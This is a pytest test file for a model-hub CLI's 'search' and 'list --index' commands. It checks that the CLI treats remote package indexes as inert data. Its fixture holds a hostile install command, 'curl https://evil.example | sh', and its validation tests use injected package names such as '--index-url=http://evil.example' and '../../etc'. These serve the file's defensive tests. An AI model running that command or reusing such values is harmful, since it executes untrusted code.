"""``hub search`` and ``hub list --index``: what sites say of packages, as data and nothing more."""

import json
import shlex

import pytest
from servers import FaultyServer, status

import hubcore
from hubcore.catalogs.offers import INDEX, read_indexes
from hubcore.cli import main
from hubcore.errors import CatalogError, DownloadError, IncompatibleCatalogError, UnsafeAddressError


def index(*packages, **changes):
    """An index of packages, each with one model and weights for it."""
    return {
        "schema": 1,
        "packages": [
            {
                "distribution": name,
                "version": "1.0",
                "summary": f"{name} finds birds",
                "install": "curl https://evil.example | sh",
                "models": 1,
                "weights": 1,
            }
            for name in packages
        ],
        "models": [
            {
                "name": f"net_{i}",
                "plugin": name,
                "task": "image-classification",
                "params": 1e6 * (i + 1),
                "acc@1": 70 + i,
                "weights": 1,
            }
            for i, name in enumerate(packages)
        ],
        "weights": [
            {"name": f"Net{i}_Weights.V1", "plugin": name, "model": f"net_{i}", "license": "MIT"}
            for i, name in enumerate(packages)
        ],
        **changes,
    }


@pytest.fixture
def site(tmp_path):
    """Writes what a site publishes, and gives its folder."""

    def write(document, name="site"):
        path = tmp_path / name / INDEX
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(document if isinstance(document, str) else json.dumps(document), "utf-8")
        return path.parents[2]

    return write


def hub(capfd, command):
    code = main(shlex.split(command))
    out, err = capfd.readouterr()
    assert "Traceback" not in err
    return code, out, err


def test_words_find_packages_that_are_not_installed(site, capfd):
    """Packages, models, weights and tasks match; the command to install is made here."""
    folder = site(index("acme-birds", "acme-trees", "hub-classification"))
    code, out, _ = hub(capfd, f"search BIRDS net --index {folder} --json")
    assert code == 0
    found = {one["distribution"]: one for one in json.loads(out)}
    assert set(found) == {"acme-birds", "acme-trees"}  # the third is installed
    assert found["acme-birds"]["install"] == "pip install acme-birds"
    assert found["acme-birds"]["matching"] == ["net_0", "Net0_Weights.V1"]
    _, out, _ = hub(capfd, f"search acme-trees --index {folder}")
    assert "pip install acme-trees" in out
    assert "acme-birds" not in out
    assert "curl" not in out
    _, out, _ = hub(capfd, f"search --installed hub-class --index {folder}")
    assert "installed" in out
    assert "No package" in hub(capfd, f"search nothing-like-it --index {folder}")[1]


def test_an_address_may_be_a_folder_a_file_a_file_address_or_of_the_web(site, capfd):
    folder = site(index("acme-birds"))
    with FaultyServer() as server:
        data = (folder / INDEX).read_bytes()
        url = server.serve(f"/hub/{INDEX}", data, [status(503)])  # is tried again
        for address in (folder, folder / INDEX, folder.as_uri(), url, url.removesuffix(INDEX)):
            code, out, err = hub(capfd, f"search birds --index {address} --json")
            assert code == 0, err
            assert [one["distribution"] for one in json.loads(out)] == ["acme-birds"]


def test_the_setting_names_the_sites_that_are_asked(site, capfd, monkeypatch):
    code, _, err = hub(capfd, "search birds")
    assert code == 1
    assert "--index URL" in err
    monkeypatch.setenv("HUBCORE_INDEXES", f"{site(index('acme-birds'))}")
    assert "acme-birds" in hub(capfd, "search birds")[1]


def test_sites_are_merged_and_the_first_that_knows_a_package_tells_all_of_it(site):
    first = site(index("acme-birds"), "first")
    other = index("acme-trees", "acme-birds")
    other["models"][1]["name"] = "impostor"
    second = site(other, "second")
    offers = read_indexes([str(first), str(second)])
    assert list(offers.packages) == ["acme-birds", "acme-trees"]
    assert list(offers.models) == ["acme-birds/net_0", "acme-trees/net_0"]


def test_listing_an_index_filters_and_sorts_as_ever(site, capfd):
    folder = site(index("acme-birds", "acme-trees"))
    run = f"list --index {folder} -q"
    both = ["acme-trees/net_1", "acme-birds/net_0"]
    assert hub(capfd, f"{run} --sort acc@1")[1].split() == both
    assert hub(capfd, f"{run} --where 'params < 2M'")[1].split() == both[1:]
    assert hub(capfd, f"{run} net_1")[1].split() == both[:1]
    assert hub(capfd, f"{run} --plugin acme-birds")[1].split() == both[1:]
    weights = hub(capfd, f"{run} --weights --where 'license in permissive'")[1].split()
    assert weights == ["acme-birds/Net0_Weights.V1", "acme-trees/Net1_Weights.V1"]
    assert "acc@1 71.000" in hub(capfd, f"list --index {folder}")[1]
    code, _, err = hub(capfd, f"list --index {folder} --where 'parms < 2M'")
    assert code == 1
    assert "Did you mean 'params'" in err
    assert hub(capfd, f"list --index {folder} --allowed")[0] == 1


def test_names_of_an_index_never_stand_for_what_is_installed(site, capfd):
    """Whatever a site says, look-ups know only what is installed."""
    document = index("hub-classification")
    document["models"][0] |= {"name": "resnet50", "acc@1": 99.9}
    before = hubcore.model_info("resnet50")
    assert "hub-classification/resnet50" in hub(capfd, f"list --index {site(document)} -q")[1]
    assert hubcore.model_info("resnet50") == before
    assert "net_0" not in hubcore.list_models()


def test_what_an_index_says_is_shown_harmless(site, capfd):
    document = index("acme-birds")
    document["packages"][0]["summary"] = "birds\x1b[2J\u202e"
    document["packages"][0]["version"] = "1\x1b]0;x\x07\n2"
    document["models"][0] |= {"task": "\x1b[31mred", "lacks": "\x1b[31m", "odd\x1b": 3}
    folder = site(document)
    for command in (
        f"search birds --index {folder}",
        f"search birds --index {folder} --json",
        f"list --index {folder}",
        f"list --index {folder} --json",
        f"list --index {folder} --where 'nothing = 3'",
    ):
        _, out, err = hub(capfd, command)
        assert not {"\x1b", "\x07", "\u202e"} & set(out + err), command


@pytest.mark.parametrize(
    ("document", "complaint"),
    [
        ("{", "not valid JSON"),
        ("[]", "not the index of a site"),
        ('{"schema": true}', "not the index of a site"),
        ('{"schema": 1}', 'must have a list "packages"'),
        ("[" * 100_000, "nested too deeply"),
        ('{"schema": 1, "schema": 1}', "twice"),
        (index("Acme_Birds"), "no normalised name"),
        (index("../../etc"), "no normalised name"),
        (index("acme --index-url=http://evil.example"), "no normalised name"),
        (index("a" * 101), "no normalised name"),
        (index(packages=[3]), r"packages\[0\]"),
        (index("acme", models=[{"plugin": "acme", "name": "a b"}]), r"models\[0\].*valid name"),
        (index("acme", models=[{"plugin": "acme"}]), r"models\[0\].*valid name"),
        (index("acme", weights=[{"plugin": "acme", "name": "A.B"}]), 'must have a "model"'),
        (index("acme", weights={}), 'must have a list "weights"'),
    ],
)
def test_a_malformed_index_is_an_error_that_says_where(document, complaint, site):
    with pytest.raises(CatalogError, match=complaint):
        read_indexes([str(site(document))])


def test_rows_keep_only_what_filters_can_compare(site):
    """A number where a text belongs, or a number beyond all others, would confuse filters."""
    document = index("acme")
    document["models"][0] |= {"task": 3, "license": ["MIT"], "size": "big", "params": 10**400}
    document["models"] += [{"plugin": ["acme"], "name": "x"}, 7]
    [row] = read_indexes([str(site(document))]).models.values()
    assert set(row) == {"name", "plugin", "acc@1", "weights"}
    text = json.dumps(index("acme")).replace('"acc@1": 70', '"acc@1": 1e999')
    assert "acc@1" not in read_indexes([str(site(text))]).models["acme/net_0"]


def test_a_newer_format_is_not_guessed_at(site):
    with pytest.raises(IncompatibleCatalogError, match="update hubcore"):
        read_indexes([str(site(index("acme", schema=2)))])


def test_what_cannot_be_read_is_said_without_secrets(tmp_path):
    with pytest.raises(CatalogError, match="No such file"):
        read_indexes([str(tmp_path / "missing")])
    with pytest.raises(CatalogError, match="an empty address"):
        read_indexes([""])
    with pytest.raises(DownloadError, match="plain http"):
        read_indexes(["http://bob:s3cretPW@models.example/?token=T0KEN"])
    with pytest.raises(UnsafeAddressError):
        read_indexes(["https://a b/"])
    with FaultyServer() as server:
        url = server.serve("/index.json", b"{}", [status(404)])
        address = url.replace("//", "//bob:s3cretPW@") + "?token=T0KEN"
        with pytest.raises(DownloadError, match="HTTP 404") as caught:
            read_indexes([address])
    assert not any(secret in str(caught.value) for secret in ("s3cretPW", "T0KEN", "bob"))


def test_a_document_that_is_too_large_is_given_up():
    from hubcore.download.documents import read_document

    with FaultyServer() as server:
        url = server.serve("/index.json", b" " * 5000)
        with pytest.raises(DownloadError, match="larger than"):
            read_document(url, 4000)
        assert len(read_document(url, 5000)) == 5000


def test_offline_nothing_is_asked(monkeypatch, capfd, connections):
    monkeypatch.setenv("HUBCORE_OFFLINE", "1")
    code, _, err = hub(capfd, "search x --index https://example.org/hub/")
    assert code == 1
    assert "HUBCORE_OFFLINE" in err
    assert connections == []
